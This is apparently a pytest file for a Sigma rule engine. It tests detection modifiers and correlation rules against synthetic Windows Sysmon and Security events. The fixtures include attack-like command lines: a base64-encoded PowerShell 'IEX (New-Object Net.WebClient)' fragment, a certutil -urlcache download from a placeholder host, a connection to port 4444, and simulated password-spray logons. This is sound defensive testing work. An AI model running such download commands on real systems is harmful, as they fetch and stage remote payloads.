"""Sigma: every modifier and condition kind on tiny hand-written rules and events, on both engines."""

from __future__ import annotations

import base64
import json
import zlib
from pathlib import Path

import pytest
from tests.conftest import engine_params, ingested_lake

pytest.importorskip("sigma.collection", reason="needs the sigma extra (pySigma)")

SYSMON = "Microsoft-Windows-Sysmon/Operational"


def _event(record: int, event_id: int, host: str = "ws1", channel: str = SYSMON, minute: int = 0, **data) -> dict:
    return {"EventID": event_id, "Channel": channel, "Hostname": host, "EventRecordID": record,
            "SourceName": "Microsoft-Windows-Sysmon" if channel == SYSMON else "Microsoft-Windows-Security-Auditing",
            "TimeCreated": f"2026-11-02T10:{minute:02d}:00.000Z", **data}


ENCODED = base64.b64encode(b"IEX (New-Object Net.WebClient)").decode()
EVENTS = [
    _event(1, 1, Image=r"C:\Windows\System32\cmd.exe", CommandLine="cmd.exe /c whoami /all",
           ParentImage=r"C:\Windows\explorer.exe", OriginalFileName="Cmd.Exe", User="CORP\\alice",
           IntegrityLevel="High"),
    _event(2, 1, Image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
           CommandLine=f"powershell -enc {ENCODED}", ParentImage=r"C:\Windows\System32\cmd.exe",
           OriginalFileName="PowerShell.EXE", User="CORP\\bob"),
    _event(3, 1, Image=r"C:\Tools\certutil.exe", CommandLine="certutil –urlcache -f http://x/a.exe a.exe",
           ParentImage=r"C:\Windows\System32\cmd.exe", User="CORP\\alice"),
    _event(4, 3, Image=r"C:\Windows\System32\rundll32.exe", DestinationIp="10.1.2.3", DestinationPort=4444,
           Initiated="true"),
    _event(5, 3, Image=r"C:\Windows\System32\svchost.exe", DestinationIp="8.8.8.8", DestinationPort=53,
           Initiated="true"),
    *[_event(10 + i, 4625, host="dc1", channel="Security", minute=i, TargetUserName=f"user{i % 4}",
             IpAddress="10.9.9.9", LogonType=3) for i in range(6)],
    _event(20, 4624, host="dc1", channel="Security", minute=7, TargetUserName="user1", IpAddress="10.9.9.9",
           LogonType=3),
]

#: (rule detection, logsource category or service, record ids it must match)
CASES = {
    "plain_case_insensitive": ("sel: {Image: 'c:\\windows\\system32\\CMD.EXE'}", 1, {1}),
    "endswith_list": ("sel: {Image|endswith: ['\\cmd.exe', '\\certutil.exe']}", 1, {1, 3}),
    "startswith": ("sel: {CommandLine|startswith: 'POWERSHELL '}", 1, {2}),
    "contains_all": ("sel: {CommandLine|contains|all: [whoami, /all]}", 1, {1}),
    "wildcards_inside": ("sel: {CommandLine: 'cmd*who?mi*'}", 1, {1}),
    "re_case_sensitive": ("sel: {OriginalFileName|re: '^Cmd\\.E'}", 1, {1}),
    "re_ignorecase": ("sel: {OriginalFileName|re|i: '^powershell\\.exe$'}", 1, {2}),
    "windash": ("sel: {CommandLine|windash|contains: ' -urlcache '}", 1, {3}),
    "base64offset": ("sel: {CommandLine|base64offset|contains: 'New-Object Net.WebClient'}", 1, {2}),
    "base64": ("sel: {CommandLine|base64|contains: 'IEX (New-Object Net.WebClient)'}", 1, {2}),
    "cidr": ("sel: {DestinationIp|cidr: 10.0.0.0/8}", 3, {4}),
    "gt": ("sel: {DestinationPort|gt: 1024}", 3, {4}),
    "lte": ("sel: {DestinationPort|lte: 53}", 3, {5}),
    "exists": ("sel: {IntegrityLevel|exists: true}", 1, {1}),
    "not_exists": ("sel: {IntegrityLevel|exists: false}", 1, {2, 3}),
    "null_value": ("sel: {IntegrityLevel: null}", 1, {2, 3}),
    "number": ("sel: {DestinationPort: 4444}", 3, {4}),
    "cased": ("sel: {OriginalFileName|cased: 'Cmd.Exe'}\n  other: {OriginalFileName|cased: 'cmd.exe'}", 1, {1}),
    "fieldref": ("sel: {Image|fieldref: ParentImage}", 1, set()),
    "keywords": ("keywords: [whoami]\n  condition: keywords", 1, {1}),
    "one_of_pattern": ("sel_a: {Image|endswith: '\\cmd.exe'}\n  sel_b: {Image|endswith: '\\certutil.exe'}\n"
                       "  condition: 1 of sel_*", 1, {1, 3}),
    "all_of_them": ("sel_a: {User: 'CORP\\alice'}\n  sel_b: {ParentImage|endswith: '\\cmd.exe'}\n"
                    "  condition: all of them", 1, {3}),
    "not_absent_field": ("sel: {Image|endswith: '.exe'}\n  filter: {IntegrityLevel: High}\n"
                         "  condition: sel and not filter", 1, {2, 3}),
    "service_security": ("sel: {EventID: 4624}", "security", {20}),
}


def _rule(name: str, detection: str, source) -> str:
    logsource = (f"{{category: {'process_creation' if source == 1 else 'network_connection'}, product: windows}}"
                 if isinstance(source, int) else f"{{service: {source}, product: windows}}")
    condition = "" if "condition:" in detection else "\n  condition: sel"
    return (f"title: {name}\nid: 00000000-0000-4000-8000-{zlib.crc32(name.encode()):012d}\nstatus: test\n"
            f"level: high\ntags: [attack.execution, attack.t1059]\nlogsource: {logsource}\n"
            f"detection:\n  {detection}{condition}\n")


def _write_rules(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, (detection, source, _) in CASES.items():
        (folder / f"{name}.yml").write_text(_rule(name, detection, source))
    return folder


@pytest.fixture(scope="module")
def lake(tmp_path_factory) -> Path:
    def write(folder: Path) -> None:
        folder.mkdir(parents=True)
        (folder / "events.json").write_text("\n".join(json.dumps(e) for e in EVENTS) + "\n")

    return ingested_lake(tmp_path_factory, "sigma", write)


@pytest.fixture(scope="module")
def rules(tmp_path_factory) -> Path:
    return _write_rules(tmp_path_factory.mktemp("rules") / "rules")


@pytest.mark.parametrize("engine_name", engine_params())
def test_every_modifier_and_condition_matches_its_events(engine_name, lake, rules):
    from winnow.engine import connect
    from winnow.sigma.rules import load_rules
    from winnow.sigma.scan import scan

    ruleset = load_rules(rules)
    assert ruleset.problems == []
    got = {}
    with connect(engine_name, lake) as engine:
        for matches in scan(engine, ruleset.rules):
            for i, compiled in enumerate(matches.rules):
                got[compiled.rule.title] = set(matches.of(i).column("record_id").to_pylist())
    for name, (_, _, expected) in CASES.items():
        assert got.get(name, set()) == expected, name


def test_bad_rules_give_one_located_problem_each(tmp_path):
    from winnow.sigma.rules import load_rules

    (tmp_path / "yaml.yml").write_text("title: broken\ndetection: [unclosed\n")
    (tmp_path / "modifier.yml").write_text(_rule("modifier", "sel: {Image|sideways: x}", 1))
    (tmp_path / "field.yml").write_text(_rule("field", "sel: {'Odd Field/Name': x}", 1))
    (tmp_path / "source.yml").write_text(_rule("source", "sel: {Image: x}", "no-such-service"))
    (tmp_path / "good.yml").write_text(_rule("good", "sel: {Image: x}", 1))
    ruleset = load_rules(tmp_path)
    assert [r.rule.title for r in ruleset.rules] == ["good"]
    by_file = {Path(p.path).name: p for p in ruleset.problems}
    assert sorted(by_file) == ["field.yml", "modifier.yml", "source.yml", "yaml.yml"]
    assert by_file["source.yml"].reason == "unmapped logsource"
    assert by_file["field.yml"].reason == "unmapped field"
    assert "sideways" in by_file["modifier.yml"].detail
    assert len(ruleset.problems) == 4


CORRELATIONS = """
title: failed logon
id: 5a3e0c1e-0000-4000-8000-000000000001
name: failed_logon
logsource: {product: windows, service: security}
detection:
  sel: {EventID: 4625}
  condition: sel
level: low
---
title: good logon
id: 5a3e0c1e-0000-4000-8000-000000000002
name: good_logon
logsource: {product: windows, service: security}
detection:
  sel: {EventID: 4624}
  condition: sel
level: low
---
title: many failures from one address
id: 5a3e0c1e-0000-4000-8000-000000000003
correlation:
  type: event_count
  rules: [failed_logon]
  group-by: [IpAddress]
  timespan: 10m
  condition: {gte: 5}
level: high
---
title: spray of accounts
id: 5a3e0c1e-0000-4000-8000-000000000004
correlation:
  type: value_count
  rules: [failed_logon]
  group-by: [IpAddress]
  timespan: 10m
  condition: {field: TargetUserName, gte: 4}
level: high
---
title: too many accounts
id: 5a3e0c1e-0000-4000-8000-000000000005
correlation:
  type: value_count
  rules: [failed_logon]
  group-by: [IpAddress]
  timespan: 10m
  condition: {field: TargetUserName, gte: 5}
level: high
---
title: failure then success
id: 5a3e0c1e-0000-4000-8000-000000000006
correlation:
  type: temporal
  rules: [failed_logon, good_logon]
  group-by: [IpAddress]
  timespan: 5m
level: critical
"""


@pytest.mark.parametrize("engine_name", engine_params())
def test_detector_groups_per_rule_and_host_and_correlates(engine_name, lake, tmp_path):
    from winnow.detections.sigma import SigmaRules
    from winnow.engine import Window, connect

    (tmp_path / "corr.yml").write_text(CORRELATIONS)
    _write_rules(tmp_path / "more")
    detector = SigmaRules(rules=str(tmp_path))
    with connect(engine_name, lake) as engine:
        findings = detector.find(engine, Window())
    by_title = {}
    for f in findings:
        by_title.setdefault(f.evidence["title"], []).append(f)
    failed = by_title["failed logon"]
    assert len(failed) == 1 and failed[0].evidence["events"] == 6 and failed[0].host == "dc1"
    assert failed[0].severity == "low"
    endswith = by_title["endswith_list"][0]
    assert endswith.severity == "high" and endswith.evidence["tags"] == ["attack.execution", "attack.t1059"]
    assert endswith.evidence["events"] == 2 and {e["record_id"] for e in endswith.evidence["examples"]} == {1, 3}
    assert "endswith_list" in endswith.why and "2 win.event events" in endswith.why
    many = by_title["many failures from one address"]
    assert len(many) == 1 and many[0].evidence["correlation"] == "event_count"
    assert many[0].evidence["group"] == {"IpAddress": "10.9.9.9"} and many[0].evidence["events"] >= 5
    assert "spray of accounts" in by_title and "too many accounts" not in by_title
    assert by_title["failure then success"][0].severity == "high"
